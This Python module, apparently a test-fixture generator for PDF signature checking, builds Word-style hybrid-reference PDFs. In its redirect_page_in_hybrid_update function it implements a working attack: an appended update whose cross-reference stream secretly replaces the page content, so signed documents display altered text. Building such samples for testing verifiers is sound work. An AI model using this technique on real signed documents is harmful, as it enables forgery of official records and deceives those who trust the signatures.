"""Hybrid-reference PDFs, laid out the way Microsoft Word writes them (and with it most Vietnamese
government documents): a classic cross-reference table for most objects, plus, named by the
trailer's ``/XRefStm``, a cross-reference stream for the objects kept in an object stream.

``hybrid_pdf`` writes such a file from scratch; ``redirect_page_in_hybrid_update`` appends the
attack on them: an update whose classic table lists nothing suspicious while its stream quietly
redefines the page, so a hybrid-aware viewer shows other text under the old signatures.
"""

from __future__ import annotations

import re
import struct
import zlib
from collections.abc import Sequence

PAGE = 3  # the page object's number in files made here


def _content(lines: Sequence[str]) -> bytes:
    ops = ["BT", "/F1 12 Tf", "72 770 Td", "16 TL"]
    for line in lines:
        text = line.encode("latin-1", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        ops.append(f"({text.decode('latin-1')}) Tj T*")
    ops.append("ET")
    return "\n".join(ops).encode("latin-1")


def _stream(number: int, head: bytes, data: bytes) -> bytes:
    body = head[:-2] + b" /Length %d >>" % len(data) if head.endswith(b">>") else head
    return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, body, data)


def _object_stream(number: int, members: Sequence[tuple[int, bytes]]) -> bytes:
    """An /ObjStm holding ``members`` (number, object text)."""
    offsets, bodies, at = [], [], 0
    for member, text in members:
        offsets.append(b"%d %d" % (member, at))
        bodies.append(text)
        at += len(text) + 1
    header = b" ".join(offsets) + b"\n"
    data = header + b"\n".join(bodies)
    return _stream(number, b"<< /Type /ObjStm /N %d /First %d >>" % (len(members), len(header)), data)


def _xref_stream(number: int, size: int, entries: Sequence[tuple[int, int, int, int]], extra: bytes = b"") -> bytes:
    """An /XRef stream: ``entries`` are (object number, type, field 2, field 3), W [1 4 2]."""
    entries = sorted(entries)
    index = b" ".join(b"%d 1" % n for n, *_ in entries)
    data = b"".join(struct.pack(">BIH", kind, f2, f3) for _n, kind, f2, f3 in entries)
    head = b"<< /Type /XRef /Size %d /W [1 4 2] /Index [%s]%s /Filter /FlateDecode >>" % (size, index, extra)
    return _stream(number, head, zlib.compress(data))


def _classic_xref(entries: dict[int, tuple[int, str]], free_head: bool) -> bytes:
    """A classic table of ``entries`` (number -> (offset, "n"|"f")), in subsections of runs."""
    rows = dict(entries)
    if free_head:
        rows[0] = (0, "f")
    out = [b"xref\n"]
    numbers = sorted(rows)
    start = 0
    while start < len(numbers):
        end = start
        while end + 1 < len(numbers) and numbers[end + 1] == numbers[end] + 1:
            end += 1
        out.append(b"%d %d\n" % (numbers[start], end - start + 1))
        for n in numbers[start:end + 1]:
            offset, kind = rows[n]
            generation = 65535 if n == 0 else 0
            out.append(b"%010d %05d %s \n" % (offset, generation, kind.encode()))
        start = end + 1
    return b"".join(out)


def hybrid_pdf(lines: Sequence[str]) -> bytes:
    """A one-page A4 document whose font dictionary lives in an object stream that only the
    ``/XRefStm`` cross-reference stream names, as Word writes them."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def put(number: int, data: bytes) -> None:
        offsets[number] = len(out)
        out.extend(data)

    put(1, b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n")
    put(2, b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n")
    put(PAGE, b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
              b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>\nendobj\n")
    put(4, _stream(4, b"<< >>", _content(lines)))
    put(6, _object_stream(6, [(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")]))
    put(7, _xref_stream(7, 8, [(5, 2, 6, 0)]))
    table = {n: (offsets[n], "n") for n in (1, 2, 3, 4, 6, 7)}
    # Object 5 is not in the table at all: only the stream knows where it is.
    startxref = len(out)
    out.extend(_classic_xref(table, free_head=True))
    out.extend(b"trailer\n<< /Size 8 /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (offsets[7], startxref))
    return bytes(out)


def redirect_page_in_hybrid_update(pdf: bytes, lines: Sequence[str]) -> bytes:
    """Append a hybrid update that redefines the page (new content) in an object stream named only by
    its ``/XRefStm``: its classic table lists the new objects and not the page."""
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = max(int(s) for s in re.findall(rb"/Size\s+(\d+)", pdf))
    content, objstm, xrefstm = size, size + 1, size + 2
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>" % content)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    offsets[content] = len(out)
    out.extend(_stream(content, b"<< >>", _content(lines)))
    offsets[objstm] = len(out)
    out.extend(_object_stream(objstm, [(PAGE, page)]))
    offsets[xrefstm] = len(out)
    out.extend(_xref_stream(xrefstm, size + 3, [(PAGE, 2, objstm, 0)]))
    startxref = len(out)
    out.extend(_classic_xref({n: (o, "n") for n, o in offsets.items()}, free_head=False))
    out.extend(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
               % (size + 3, prev, offsets[xrefstm], startxref))
    return bytes(out)
